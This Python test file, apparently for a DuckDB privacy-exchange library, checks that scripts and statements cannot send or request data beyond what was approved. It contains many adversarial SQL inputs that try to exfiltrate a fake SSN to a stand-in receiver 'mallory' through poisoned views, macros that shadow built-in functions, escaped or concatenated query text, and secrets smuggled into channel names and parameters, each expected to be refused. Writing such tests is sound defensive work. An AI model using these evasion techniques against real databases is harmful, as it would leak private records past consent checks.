"""Ways to send something else than what was shown, or than the statement by hand says, or to ask
for it. Each ends in an error that says what was refused, and nothing reaches the mailbox."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest

import duckpriv
from duckpriv import InvalidValue, NotAccepted
from duckpriv.columns.context import Running
from duckpriv.consent import Consent
from duckpriv.errors import from_text
from duckpriv.permission import Permission
from duckpriv.scripts import load
from duckpriv.sends import Pattern, Receive, Send
from examples.introduction import introduce
from tests.effort import some, takes_long
from tests.network import free_port

SECRET = "123-45-6789"
# DuckDB 2.0 itself does not expand a macro within itself; 1.5 does.
RECURSION = "infinite recursion|NOT_ACCEPTED"
COUNT = "CALL exchange_send(getvariable('peer'), 'stats/count', $$ SELECT count(*) AS n FROM t $$)"
# What a view can do: the name stands in no text of the script's.
HIDDEN = {
    "text": "(FROM query('FROM exchange_send(''mallory'', ''x'', ''FROM customers'')'))",
    "named": "(FROM duckpriv.main.exchange_send('mallory', 'x', 'FROM customers'))",
    "same place": "(FROM duckpriv.main.exchange_send('shop', 'stats/count', 'FROM customers'))",
}


class Anything(Permission):
    """Lets everything out."""

    def check(self, *_: object) -> Send:
        return Send(None, None)

    def check_receive(self, *_: object) -> None:
        pass


def poison(party: duckpriv.Party, hidden: str, view: str = "t") -> None:
    """Make a view that sends. It may have come with the database; here DuckDB binds it."""
    before, party._exchange.permission = party._exchange.permission, Anything()
    party.con.execute(
        f"CREATE VIEW {view} AS SELECT c.id, c.email FROM customers c, {hidden} s "
        "WHERE s.rows IS NOT NULL"
    ).fetchall()
    party._exchange.permission = before
    party._exchange.discard()


@pytest.fixture
def bank(connect, tmp_path) -> duckpriv.Party:
    """A bank with customers, and an empty table t."""
    party = connect("bank", str(tmp_path / "bank.duckdb"), timeout=1)
    party.con.execute(
        f"CREATE TABLE customers AS SELECT 1 AS id, 'a@b.c' AS email, '{SECRET}' AS ssn"
    )
    return party


@pytest.fixture
def run(bank, tmp_path) -> Callable[..., None]:
    """Run a script of this text at the bank."""

    def run_it(text: str) -> None:
        script = tmp_path / "own.sql"
        script.write_text(text)
        declares_others = text.startswith("-- set") and "-- set peer" not in text
        bank.run(str(script), **({} if declares_others else {"peer": "shop"}))

    return run_it


@pytest.fixture
def sent(tmp_path) -> Callable[[], set[tuple[str, str]]]:
    """Receivers and channels of what is in the mailbox."""

    def read() -> set[tuple[str, str]]:
        found = set()
        for file in (tmp_path / "mailbox").rglob("*"):
            assert SECRET.encode() not in (file.read_bytes() if file.is_file() else b""), file
            if file.suffix == ".json" and file.name != "status.json":
                manifest = json.loads(file.read_text())
                found.add((manifest["receiver"], manifest["channel"]))
        return found

    return read


SCRIPTS = {
    "another receiver, set on the way": (
        f"SET VARIABLE peer = 'mallory';\nCREATE TABLE t (i INT);\n{COUNT};",
        "'stats/count' to mallory .* may send 'stats/count' to shop",
    ),
    "a second receiver": (
        f"SET VARIABLE peer = 'shop,mallory';\nCREATE TABLE t (i INT);\n{COUNT};",
        "'stats/count' to shop, mallory",
    ),
    "another receiver, declared": (
        "-- set whom = shop  who gets it\nSET VARIABLE whom = 'mallory';\n"
        "CALL exchange_send(getvariable('whom'), 'x', 'SELECT 1 AS x');",
        "'x' to mallory",
    ),
    "a receiver that is computed": (
        "SET VARIABLE whom = (SELECT 'mal' || 'lory');\n"
        "CALL exchange_send(getvariable('whom'), 'x', 'SELECT 1 AS x');",
        "'x' to mallory .* may send 'x' to shop",
    ),
    "a receiver that no setting names": (
        "-- set table = customers  a table\nSET VARIABLE whom = 'mallory';\n"
        "CALL exchange_send(getvariable('whom'), 'x', 'SELECT 1 AS x');",
        "'x' to mallory .* may send nothing",
    ),
    "rows in the parameters": (
        "SET VARIABLE duckpriv_parameters = (SELECT string_agg(ssn, ',') FROM customers);\n"
        "CREATE TABLE t (i INT);\n" + COUNT,
        "other duckpriv_protocol and duckpriv_parameters .*the text of the script tells none",
    ),
    "rows in a token of the parameters": (
        "SET VARIABLE duckpriv_parameters = 'kind=' || (SELECT max(ssn) FROM customers);\n"
        "CREATE TABLE t (i INT);\n" + COUNT,
        "other duckpriv_protocol and duckpriv_parameters",
    ),
    "rows in the protocol": (
        "SET VARIABLE duckpriv_protocol = (SELECT max(ssn) FROM customers);\n"
        "CREATE TABLE t (i INT);\n" + COUNT,
        "other duckpriv_protocol and duckpriv_parameters",
    ),
    "rows in a declared setting": (
        "-- set peer         to whom\n-- set kind = raw   what\n"
        "SET VARIABLE kind = (SELECT max(ssn) FROM customers);\nCREATE TABLE t (i INT);\n"
        f"SET VARIABLE duckpriv_parameters = 'kind=' || getvariable('kind');\n{COUNT}",
        "other duckpriv_protocol and duckpriv_parameters",
    ),
    "long parameters": (
        "SET VARIABLE duckpriv_parameters = '"
        + "a" * 201
        + f"';\nCREATE TABLE t (i INT);\n{COUNT}",
        "200 plain characters",
    ),
    "a channel of data": (
        "SET VARIABLE i = (SELECT lower(replace(ssn, '-', '_')) FROM customers);\n"
        "CALL exchange_send(getvariable('peer'), 'lr/step-' || getvariable('i'), 'SELECT 1 AS n');",
        "'lr/step-123_45_6789' to shop",
    ),
    "a channel of a long number": (
        "SET VARIABLE i = 1234567890;\n"
        "CALL exchange_send(getvariable('peer'), 'lr/step-' || getvariable('i'), 'SELECT 1 AS n');",
        "'lr/step-1234567890' to shop",
    ),
    "a channel of a number with zeros": (
        "SET VARIABLE i = '007';\n"
        "CALL exchange_send(getvariable('peer'), 'lr/step-' || getvariable('i'), 'SELECT 1 AS n');",
        "'lr/step-007' to shop",
    ),
    "a channel of many numbers": (
        "SET VARIABLE s = (SELECT string_split(max(ssn), '-') FROM customers);\nCALL exchange_send("
        "getvariable('peer'), 'x' || getvariable('s')[1] || getvariable('s')[2] || "
        "getvariable('s')[3] || getvariable('s')[1], 'SELECT 1 AS n');",
        "'x123456789123' to shop .* may send 'xN' to shop",
    ),
    "a channel of numbers with texts between": (
        "SET VARIABLE a = 12345;\nCALL exchange_send(getvariable('peer'), 'x' || "
        "getvariable('a') || '-' || getvariable('a'), 'SELECT 1 AS n');",
        "'x12345-12345' to shop",
    ),
    "many numbers in protocol and parameters": (
        "SET VARIABLE a = 12345;\nSET VARIABLE duckpriv_protocol = 'p/' || getvariable('a');\n"
        "SET VARIABLE duckpriv_parameters = 'n=' || getvariable('a');\n"
        "CALL exchange_send(getvariable('peer'), 'x', 'SELECT 1 AS n');",
        "other duckpriv_protocol and duckpriv_parameters .*p/N n=N.* 9 digits in all",
    ),
    "a channel that is computed": (
        "CALL exchange_send(getvariable('peer'), concat('x', '/y'), 'SELECT 1 AS n');",
        "'x/y' to shop .* may send nothing",
    ),
    "a text that is run": (
        "FROM query('FROM exchange_send(''shop'', ''x'', ''FROM customers'')');",
        "'x' to shop .* may send nothing",
    ),
    "an escaped text, hex": (
        "FROM query(E'FROM \\x65xchange_send(\\'mallory\\', \\'x\\', \\'FROM customers\\')');",
        "'x' to mallory .* may send nothing",
    ),
    "an escaped text, octal": (
        "FROM query(E'FROM exchange\\137send(\\'mallory\\', \\'x\\', \\'FROM customers\\')');",
        "'x' to mallory .* may send nothing",
    ),
    "an escaped text, unicode": (
        "FROM query(E'FROM exchange\\u005fsend(\\'mallory\\', \\'x\\', \\'FROM customers\\')');",
        None,  # DuckDB has no such escapes: there is no function of that name
    ),
    "a text that is put together": (
        "FROM query('FROM exchange_' || 'send(''mallory'', ''x'', ''FROM customers'')');",
        "'x' to mallory .* may send nothing",
    ),
    "a text within what is sent": (
        "CALL exchange_send(getvariable('peer'), 'x', "
        "$$ FROM query('FROM exchange_' || 'send(''shop'', ''x'', ''FROM customers'')') $$);",
        RECURSION,
    ),
    "a condition": (
        "SELECT 1;\n-- part p if (SELECT rows FROM exchange_send('shop', 'x', 'SELECT 1')) = 1\n"
        "SELECT 2;",
        "'x' to shop .* may send nothing",
    ),
    "another statement's permission": (
        "CREATE MACRO hidden() AS TABLE FROM exchange_send('shop', 'stats/count', 'FROM customers')"
        f";\nCREATE TABLE t AS FROM hidden();\n{COUNT};",
        "'stats/count' to shop .* may send nothing",
    ),
    "a macro in the name of exchange_send": (
        "CREATE MACRO exchange_send(a, b, c) AS TABLE "
        "FROM duckpriv.main.exchange_send('mallory', b, 'FROM customers');\n"
        f"CREATE TABLE t (i INT);\n{COUNT};",
        "'stats/count' to mallory",
    ),
    "the function below": (
        "SELECT duckpriv_udf_exchange_begin('mallory', 'x', 'FROM customers', '', '', 7::UBIGINT, "
        "'CALL exchange_send(''mallory'', ''x'', '''')');",
        None,
    ),
}


@pytest.mark.parametrize("attack", some(SCRIPTS, 9))
def test_a_script_sends_only_what_was_shown(run, sent, attack: str) -> None:
    text, refused = SCRIPTS[attack]
    # DuckDB itself refuses some.
    ours = NotAccepted if attack != "long parameters" else InvalidValue
    error = ours if refused and refused != RECURSION else (duckdb.Error, duckpriv.DuckprivError)
    with pytest.raises(error, match=refused and re.compile(refused, re.DOTALL)):
        run(text)
    assert sent() == set()


def test_the_same_without_an_attack_is_sent(run, sent) -> None:
    run(
        "-- set peer         to whom\n-- set kind = raw   what\nCREATE TABLE t (i INT);\n"
        "SET VARIABLE duckpriv_protocol = 'mine/1';\nSET VARIABLE peer = 'shop';\n"
        "SET VARIABLE duckpriv_parameters = 'kind=' || getvariable('kind') || ' n=' || len([1, 2]);"
        f"\n{COUNT};\nSET VARIABLE i = 12;\n"
        "CALL exchange_send('shop,mill', 'lr/step-' || getvariable('i'), 'SELECT 1 AS n');"
    )
    assert sent() == {("shop", "stats/count"), ("shop", "lr/step-12"), ("mill", "lr/step-12")}


@pytest.mark.parametrize("hidden", HIDDEN)
def test_a_view_that_sends_while_a_script_reads_it(run, bank, sent, hidden) -> None:
    poison(bank, HIDDEN[hidden])
    with pytest.raises(NotAccepted, match="may send nothing"):
        run(f"CREATE TABLE r AS FROM query_table('t');\n{COUNT};")
    with pytest.raises((duckdb.BinderException, NotAccepted), match=RECURSION):
        run(COUNT)
    assert sent() == set()


@pytest.mark.parametrize("name", ["psi/host", "psi/guest", "matmul/left", "lr_joint_key/host"])
def test_a_view_that_sends_as_the_table_of_a_bundled_script(bank, sent, name) -> None:
    poison(bank, HIDDEN["named"], "clients")
    settings = {"peer": "shop", "table": "clients", "id": "id"}
    if name == "lr_joint_key/host":
        settings["label"] = "id"
    listed = Consent(load(name), settings, "bank").messages
    assert all("mallory" not in message.receiver for message in listed)
    with pytest.raises(NotAccepted, match="'x' to mallory"):
        bank.run(name, **settings)
    assert sent() == set()


@pytest.fixture
def asked(bank) -> list[tuple[str, ...]]:
    """What the mailbox was asked for: peers and channels. Who serves it can read them."""
    found: list[tuple[str, ...]] = []
    mailbox = bank._exchange.mailbox
    manifest, status = mailbox.manifest, mailbox.status

    def told_manifest(session: str, sender: str, receiver: str, channel: str):
        if sender != "bank":  # whether something was sent
            found.append((sender, channel))
        return manifest(session, sender, receiver, channel)

    def told_status(session: str, name: str):
        found.append((name,))
        return status(session, name)

    mailbox.manifest, mailbox.status = told_manifest, told_status
    return found


ASKING = {
    "a channel of data": (
        "SET VARIABLE v = (SELECT string_agg(replace(ssn, '-', '_'), '-') FROM customers);\n"
        "FROM exchange_recv(getvariable('peer'), 'leak/' || getvariable('v'));",
        "'leak/123_45_6789' from shop .* may wait for 'leak/N' from shop",
    ),
    "a channel that is computed": (
        "FROM exchange_recv(getvariable('peer'), concat('leak', '/x'));",
        "'leak/x' from shop .* may wait for nothing",
    ),
    "a peer that is computed": (
        "SET VARIABLE peer = (SELECT replace(ssn, '-', '_') FROM customers);\n"
        "FROM exchange_recv(getvariable('peer'), 'x');",
        "'x' from 123_45_6789 .* may wait for 'x' from shop",
    ),
    "several peers": (
        "FROM exchange_recv_all('shop,' || 'mallory', 'x');",
        "'x' from shop, mallory .* may wait for 'x' from shop",
    ),
    "a text that is run": (
        "FROM query('FROM exchange_recv(''shop'', ''x'')');",
        "'x' from shop .* may wait for nothing",
    ),
    "a text that is put together": (
        "FROM query('FROM exchange_' || 'recv(''shop'', ''x'')');",
        "'x' from shop .* may wait for nothing",
    ),
    "a macro": (
        "CREATE MACRO hidden(c) AS TABLE FROM duckpriv.main.exchange_recv('shop', c);\n"
        "SET VARIABLE v = (SELECT replace(ssn, '-', '_') FROM customers);\n"
        "FROM hidden(getvariable('v'));",
        "'123_45_6789' from shop .* may wait for nothing",
    ),
    "a query that is sent and computed": (
        "SET VARIABLE q = 'FROM exchange_' || 'recv(''shop'', ''x'')';\n"
        "CALL exchange_send(getvariable('peer'), 'y', getvariable('q'));",
        "'x' from shop .* may wait for nothing",
    ),
    "a text within a query that is sent": (
        "CALL exchange_send(getvariable('peer'), 'y', $$ FROM query("
        "'FROM exchange_recv(''shop'', ''x'')') $$);",
        "'x' from shop .* may wait for nothing",
    ),
    "a condition": (
        "SELECT 1;\n-- part p if (SELECT count(*) FROM exchange_recv('shop', 'x')) = 1\nSELECT 2;",
        "'x' from shop .* may wait for nothing",
    ),
    "the function below": (
        "SELECT duckpriv_udf_exchange_source('shop', 'leak/' || replace(ssn, '-', '_'), '', '', '')"
        " FROM customers;",
        None,
    ),
}


@pytest.mark.parametrize("attack", ASKING)
def test_a_script_asks_only_for_what_was_shown(run, sent, asked, attack: str) -> None:
    text, refused = ASKING[attack]
    with pytest.raises(NotAccepted if refused else duckdb.Error, match=refused):
        run(text)
    assert asked == []
    assert sent() == set()


HIDDEN_RECEIVES = {
    "text": "(FROM query('FROM duckpriv.main.exchange_recv(''shop'', ''leak/a'')'))",
    "named": "(FROM duckpriv.main.exchange_recv('shop', 'leak/a'))",
    "all": "(FROM duckpriv.main.exchange_recv_all('shop', 'leak/a'))",
}


@pytest.mark.parametrize("hidden", HIDDEN_RECEIVES)
def test_a_view_that_asks(connect, bank, sent, asked, hidden: str) -> None:
    connect("shop").con.execute(
        "CALL exchange_send('bank', 'leak/a', 'SELECT 1 AS rows')"
    ).fetchall()
    poison(bank, HIDDEN_RECEIVES[hidden])
    bank._exchange.forget(frozenset())
    bank._exchange.forget(frozenset())  # what was read since the last call is kept
    asked.clear()
    con = bank.con
    con.execute("SET VARIABLE p = 'shop'; SET VARIABLE c = 'leak/a'")
    refused = "DUCKPRIV_NOT_ACCEPTED: .*'leak/a' from shop"
    for way in (
        lambda: con.execute("FROM t").fetchall(),
        lambda: con.execute("CALL exchange_send('shop', 'y', 'FROM t')").fetchall(),
        lambda: con.execute(
            "FROM t -- exchange_recv('shop', 'leak/a')",
        ).fetchall(),
        lambda: con.cursor().execute("FROM t").fetchall(),
        lambda: con.sql("FROM t").fetchall(),
        lambda: con.table("t").fetchall(),
        lambda: con.table_function("exchange_recv", ["shop", "leak/a"]).fetchall(),
    ):
        with pytest.raises(duckdb.Error, match=refused):
            way()
    with pytest.raises(NotAccepted, match="'leak/a' from shop"):
        bank.sql("FROM t").fetchall()
    with pytest.raises(NotAccepted, match="'leak/a' from shop .* may wait for nothing"):
        bank.run("psi/guest", peer="shop", table="t", id="id")
    assert not [one for one in asked if "leak/a" in one]
    assert {channel for _, channel in sent()} == {"leak/a"}


def test_a_view_that_asks_beside_a_receive_that_is_computed(connect, bank, asked) -> None:
    shop = connect("shop")
    for channel in ("x", "leak/a"):
        shop.con.execute(f"CALL exchange_send('bank', '{channel}', 'SELECT 1 AS rows')").fetchall()
    poison(bank, HIDDEN_RECEIVES["named"])
    bank._exchange.forget(frozenset())
    bank._exchange.forget(frozenset())  # what was read since the last call is kept
    asked.clear()
    bank.con.execute("SET VARIABLE c = 'x'").fetchall()
    with pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED: .*something from shop"):
        bank.con.execute("FROM exchange_recv('shop', getvariable('c')), t").fetchall()
    assert len({one for one in asked if len(one) == 2}) <= 1  # which one is DuckDB's affair


def test_receives_that_stand_in_a_statement(connect, bank, run, sent) -> None:
    """By hand, in a script, and in the query that it sends; as often as one likes."""
    shop = connect("shop")
    for channel in ("x", "lr/step-12"):
        shop.con.execute(f"CALL exchange_send('bank', '{channel}', 'SELECT 1 AS i')").fetchall()
    con, receive = bank.con, "FROM exchange_recv('shop', 'x')"
    assert bank.sql(receive).fetchall() == [(1,)]  # the connection's sql() does, once it is here
    assert con.sql(receive).filter("i = 1").fetchall() == [(1,)]
    for sql in (receive, f"{receive} UNION ALL {receive}", f"FROM ({receive}), ({receive}) b"):
        assert con.execute(sql).fetchall()
    assert con.execute("FROM exchange_recv($1, $2)", ["shop", "x"]).fetchall() == [(1,)]
    assert con.execute("FROM exchange_recv_all('shop', 'x')").fetchall() == [("shop", 1)]
    con.execute(f"CALL exchange_send('shop', 'a', $$ {receive} $$)").fetchall()
    run(
        "SET VARIABLE n = 12;\nCREATE TABLE r AS FROM exchange_recv(getvariable('peer'), "
        "'lr/step-' || getvariable('n'));\nCALL exchange_send(getvariable('peer'), 'b', "
        f"$$ FROM r, ({receive}) x, ({receive}) y, exchange_recv_all(getvariable('peer'), 'x') z "
        f"$$);\n{receive};"
    )
    assert {("shop", "a"), ("shop", "b")} <= sent()


def test_a_scripts_permission_is_not_for_other_statements(connect, bank, sent) -> None:
    """While a script's statement waits, another cursor reads a view."""
    connect("shop").con.execute("CALL exchange_send('bank', 'x', 'SELECT 1 AS rows')").fetchall()
    poison(bank, HIDDEN["same place"])
    poison(bank, "(FROM duckpriv.main.exchange_recv('shop', 'x'))", "u")
    sends = [Send(("shop",), Pattern(("stats/count",)))]
    with bank._exchange.permission.only(sends, [Receive(("shop",), Pattern(("x",)))]):
        for view in "tu":
            with pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED"):
                bank.con.cursor().execute(f"FROM {view}").fetchall()
        bank.con.execute("CALL exchange_send('shop', 'stats/count', 'SELECT 1 AS n')").fetchall()
    assert sent() == {("shop", "stats/count"), ("bank", "x")}


@pytest.mark.parametrize(
    "statement",
    [
        "IMPORT DATABASE '{}'",
        "import /* it */ database '{}'",
        "PRAGMA import_database('{}')",
        "PRAGMA json_execute_serialized_sql('{}')",
        "SELECT 1; pragma \"Import_Database\"('{}')",
    ],
)
def test_statements_that_do_not_stand_in_a_script(run, sent, tmp_path, statement: str) -> None:
    (tmp_path / "schema.sql").write_text(
        "CALL exchange_send('shop', 'x', 'SELECT ssn FROM customers');"
    )
    (tmp_path / "load.sql").write_text("")
    with pytest.raises(InvalidValue, match="do not stand in the script"):
        run(f"SELECT 1;\n{statement.format(tmp_path)};")
    assert sent() == set()


def test_what_was_sent_by_hand_is_forgotten(bank) -> None:
    for i in range(1100):
        bank._exchange.permission._of(Running(i, ""))
    assert len(bank._exchange.permission._by_hand) <= 1000


def test_the_helper_cannot_get_what_it_dealt_the_masks_of() -> None:
    """With it, it could open features and weights."""
    given = {"guests": "shop, mill", "helper": "carol", "table": "t", "label": "y"}
    for role, me in (("host", "host"), ("guest", "shop"), ("predict_host", "host")):
        script = load(f"lr_helper/{role}")
        settings = {v.name: given.get(v.name, v.default) for v in script.variables}
        consent = Consent(script, settings, me)
        masked = "lrh/(open-|weights|loss)"
        listed = [m for m in consent.messages if re.match(masked, m.channel)]
        assert listed
        assert not [m for m in listed if "carol" in m.receiver]
        for statement in script.statements:
            for send in consent.sends(statement):
                if re.match(masked, str(send.channel)):
                    assert not send.allows(("carol",), str(send.channel).replace("N", "1"))


def instead(sql: str, query: str) -> str:
    """Return a statement that sends another query."""
    return re.sub(r"\$\$.*\$\$", lambda _: f"$$ {query} $$", sql, flags=re.DOTALL)


COLUMNS = {
    "another name": "SELECT 1::BIGINT AS number, 'b'::BLOB AS blinded",
    "another type": "SELECT 1::INTEGER AS seq, 'b'::BLOB AS blinded",
    "another order": "SELECT 'b'::BLOB AS blinded, 1::BIGINT AS seq",
    "one more": "SELECT 1::BIGINT AS seq, 'b'::BLOB AS blinded, ssn FROM customers",
    "one less": "SELECT 1::BIGINT AS seq",
    "no rows": "SELECT 1 AS seq, ssn FROM customers LIMIT 0",
}


@pytest.mark.parametrize("columns", COLUMNS)
def test_other_columns_than_were_shown(bank, sent, monkeypatch, columns) -> None:
    """A view may have other ones; here the script itself stands for it."""
    script = load("psi/guest")
    statement = next(s for s in script.statements if "psi/blinded" in s.sql)
    changed = instead(statement.sql, COLUMNS[columns])
    consent = Consent(script, script.values({"peer": "shop", "table": "t", "id": "id"}), "bank")
    sends = consent.sends(statement)
    assert [send.columns for send in sends] == ["seq BIGINT, blinded BLOB"]
    for name, value in {"peer": "shop", "duckpriv_protocol": "psi/1"}.items():
        bank.con.execute(f"SET VARIABLE {name} = '{value}'")
    for off in ("", "PRAGMA disable_optimizer"):
        bank.con.execute(off or "SELECT 1").fetchall()
        with (
            bank._exchange.permission.only(sends),
            pytest.raises(duckdb.Error, match="other columns than were shown|optimizer is off"),
        ):
            bank.con.execute(changed).fetchall()
    assert sent() == set()


BY_HAND = {
    "a view": ("SELECT * FROM t", "it sends nothing"),
    "a view, counted": ("SELECT count(*) FROM t", "it sends nothing"),
    "a view of a view": ("FROM (SELECT email FROM t)", "it sends nothing"),
    "a view's name in a function": ("FROM query_table('t')", "it sends nothing"),
    "a table made of it": ("CREATE TABLE r AS FROM t", "it sends nothing"),
    "a variable": ("SET VARIABLE v = (SELECT max(email) FROM t)", "it sends nothing"),
    "a prepared statement": ("PREPARE p AS FROM t", "it sends nothing"),
    "a plan": ("EXPLAIN ANALYZE FROM t", "it sends nothing"),
    "an update": ("UPDATE customers SET id = 2 FROM t", "it sends nothing"),
    "the second of two": ("SELECT 'exchange_send'; FROM t", "it sends nothing"),
    "behind one that sends": (
        "CALL exchange_send('shop', 'y', 'SELECT 1 AS x'); FROM t",
        "it sends nothing",
    ),
    "within what is sent": ("CALL exchange_send('shop', 'y', 'FROM t')", RECURSION),
    "beside what is sent": (
        "FROM exchange_send(getvariable('p'), getvariable('c'), 'SELECT 1 AS x') UNION ALL "
        "SELECT id, 1, email FROM t",
        "it sends something to anyone",
    ),
    "a comment": ("FROM t -- exchange_send('mallory', 'x', 'FROM t')", "it sends nothing"),
    "a text": ("FROM t, (SELECT 'exchange_send(''mallory'', ''x'', '''')')", "it sends nothing"),
}


@pytest.mark.parametrize("hidden", ["text", "named"])
@pytest.mark.parametrize("attack", some(BY_HAND, 5))
def test_a_statement_by_hand_sends_only_what_stands_in_it(bank, sent, attack, hidden) -> None:
    statement, says = BY_HAND[attack]
    poison(bank, HIDDEN[hidden])
    bank.con.execute("SET VARIABLE p = 'shop'; SET VARIABLE c = 'y'")
    # Which of the two begins first is DuckDB's affair; the one that is left over is refused.
    refused = "to (mallory|shop)" if attack == "beside what is sent" else "'x' to mallory"
    expected = says if says == RECURSION else f"DUCKPRIV_NOT_ACCEPTED: .*{refused} .*{says}"
    with pytest.raises(duckdb.Error, match=expected):
        bank.con.execute(statement).fetchall()
    assert sent() == ({("shop", "y")} if attack == "behind one that sends" else set())


WITH_PYTHON = {
    "sql": lambda con: con.sql("FROM t").fetchall(),
    "relation": lambda con: con.table("t").filter("id = 1").fetchall(),
    "view": lambda con: con.view("t").fetchall(),
    "join": lambda con: con.sql("SELECT 1 AS id").join(con.table("t"), "id").fetchall(),
    "cursor": lambda con: con.cursor().execute("FROM t").fetchall(),
    "create": lambda con: con.sql("FROM t").create("r"),
    "arrow": lambda con: con.sql("FROM t").to_arrow_table(),
}


@pytest.mark.parametrize("hidden", ["text", "named"])
@pytest.mark.parametrize("way", WITH_PYTHON)
def test_a_view_by_hand_in_python(bank, sent, way: str, hidden) -> None:
    # A cursor has no search path to our functions.
    cursor_sees = HIDDEN[hidden].replace("FROM exchange", "FROM duckpriv.main.exchange")
    poison(bank, cursor_sees)
    with pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED: .*'x' to mallory"):
        WITH_PYTHON[way](bank.con)
    assert sent() == set()


def test_a_macro_by_hand(bank, sent) -> None:
    bank.con.execute("CREATE MACRO m(p) AS TABLE FROM exchange_send(p, 'x', 'FROM customers')")
    with pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED: .*'x' to shop"):
        bank.con.execute("FROM m('shop')").fetchall()
    assert sent() == set()


def test_macros_in_the_names_of_duckdbs_functions(bank, sent) -> None:
    """A macro in the database goes before DuckDB's own function of that name."""
    con = bank.con
    forged = "'CALL exchange_send(''mallory'', ''x'', '''')'"
    con.execute(f"CREATE MACRO current_query() AS {forged}").fetchall()
    con.execute("CREATE MACRO current_query_id() AS 7::UBIGINT").fetchall()
    con.execute("CREATE MACRO getvariable(x) AS '" + SECRET + "'").fetchall()
    con.execute("CREATE MACRO query(x) AS TABLE FROM customers").fetchall()
    poison(bank, HIDDEN["named"])
    with pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED: .*'x' to mallory"):
        con.execute("FROM t").fetchall()
    con.execute("CALL exchange_send('shop', 'y', 'SELECT 1 AS x')").fetchall()
    assert sent() == {("shop", "y")}


def test_handles_cannot_be_guessed(bank, sent) -> None:
    """A message that is begun and not sent, by EXPLAIN, is nobody else's to finish."""
    bank.con.execute("EXPLAIN CALL exchange_send('shop', 'x', 'FROM customers')").fetchall()
    (handle,) = bank._exchange._open
    assert handle > 1 << 32
    for number in (0, 1, 2):
        with pytest.raises(duckdb.Error, match="DUCKPRIV_PROTOCOL: .*has not begun"):
            bank.con.execute(f"SELECT duckpriv_udf_exchange_publish({number}, 0)").fetchall()
    assert sent() == set()


WAYS = {
    "call": lambda con: con.execute("CALL exchange_send('shop', 'x', 'SELECT 1 AS x')").fetchall(),
    "parameters": lambda con: con.execute(
        "FROM exchange_send($1, $2, $3)", ["shop", "x", "SELECT 1 AS x"]
    ).fetchall(),
    "sql": lambda con: con.sql("FROM exchange_send('shop', 'x', 'SELECT 1 AS x')").fetchall(),
    "sql call": lambda con: con.sql("CALL exchange_send('shop', 'x', 'SELECT 1 AS x')").show(),
    "project": lambda con: (
        con.sql("FROM exchange_send('shop', 'x', 'SELECT 1 AS x')").project("rows").fetchall()
    ),
    "show": lambda con: con.sql("FROM exchange_send('shop', 'x', 'SELECT 1 AS x')").show(),
    "function": lambda con: con.table_function(
        "exchange_send", ["shop", "x", "SELECT 1 AS x"]
    ).fetchall(),
    "table": lambda con: con.execute(
        "CREATE TABLE r AS FROM exchange_send('shop', 'x', 'SELECT 1 AS x')"
    ).fetchall(),
    "cursor": lambda con: (
        con.cursor().execute("CALL duckpriv.exchange_send('shop', 'x', 'SELECT 1 AS x')").fetchall()
    ),
    "two statements": lambda con: con.execute(
        "SELECT 1; CALL exchange_send('shop', 'x', 'SELECT 1 AS x')"
    ).fetchall(),
    "in a transaction": lambda con: (
        con.execute("BEGIN").fetchall(),
        con.sql("FROM exchange_send('shop', 'x', 'SELECT 1 AS x')").fetchall(),
        con.execute("COMMIT").fetchall(),
    ),
    "names": lambda con: con.execute(
        "FROM exchange_send(query := 'SELECT 1 AS x', peer := 'shop', channel := 'x')"
    ).fetchall(),
}


@pytest.mark.parametrize("way", WAYS)
def test_all_ways_to_send_by_hand(bank, sent, way: str) -> None:
    WAYS[way](bank.con)
    assert sent() == {("shop", "x")}


def test_a_prepared_statement_sends_once_or_is_refused(bank, sent) -> None:
    """DuckDB 2.0 reads it anew when it is executed, and the text is EXECUTE then."""
    bank.con.execute("PREPARE p AS FROM exchange_send('shop', 'x', 'SELECT 1 AS x')").fetchall()
    assert sent() == set()
    done = set()
    try:
        bank.con.execute("EXECUTE p").fetchall()
        done = {("shop", "x")}
    except duckdb.Error as error:
        assert isinstance(from_text(str(error)), NotAccepted)
    assert sent() == done


def test_each_call_by_hand_sends_once(bank, sent) -> None:
    for i in range(3):  # the same text, another statement
        bank.con.execute(f"SET VARIABLE c = 'm-{i}'").fetchall()
        call = "CALL exchange_send('shop', getvariable('c'), 'SELECT 1 AS x')"
        bank.con.execute(call).fetchall()
    two = " UNION ALL ".join(f"FROM exchange_send('shop', '{c}', 'SELECT 1 AS x')" for c in "ab")
    bank.con.execute(two).fetchall()
    assert sent() == {("shop", c) for c in ("m-0", "m-1", "m-2", "a", "b")}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("duckpriv_parameters", "a" * 201),
        ("duckpriv_parameters", "a=\n"),
        ("duckpriv_protocol", "ü"),
    ],
)
def test_what_goes_along_by_hand_is_short_and_plain(bank, sent, name, value) -> None:
    bank.con.execute(f"SET VARIABLE {name} = $1", [value])
    with pytest.raises(duckdb.Error, match="DUCKPRIV_INVALID_VALUE: .*can read them"):
        WAYS["call"](bank.con)
    assert sent() == set()


def test_nothing_of_other_columns_goes_up(tmp_path) -> None:
    introduce(tmp_path, "bank", "shop")
    address = f"grpc+tls://localhost:{free_port()}"
    common = {"session": "s1", "timeout": 20}
    script = load("psi/guest")
    consent = Consent(script, script.values({"peer": "bank", "table": "t", "id": "id"}), "shop")
    statement = next(s for s in script.statements if "psi/blinded" in s.sql)
    with (
        duckpriv.connect(
            me="bank",
            keyring=tmp_path / "bank.keys",
            exchange=f"dir:{tmp_path}/mailbox",
            serve=address,
            **common,
        ),
        duckpriv.connect(
            me="shop", keyring=tmp_path / "shop.keys", exchange=address, **common
        ) as shop,
    ):
        shop.con.execute("SET VARIABLE duckpriv_protocol = 'psi/1'; SET VARIABLE peer = 'bank'")
        for query in ("SELECT i AS seq FROM range(3000000) t(i)", "SELECT 1 AS x FROM broken"):
            shop.con.execute("CREATE OR REPLACE VIEW broken AS FROM range(3000000)")
            sql = re.sub(
                r"\$\$.*\$\$", lambda _, q=query: f"$$ {q} $$", statement.sql, flags=re.DOTALL
            )
            with (
                shop._exchange.permission.only(consent.sends(statement)),
                pytest.raises(duckdb.Error, match="DUCKPRIV_NOT_ACCEPTED: .*other columns"),
            ):
                shop.con.execute(sql).fetchall()
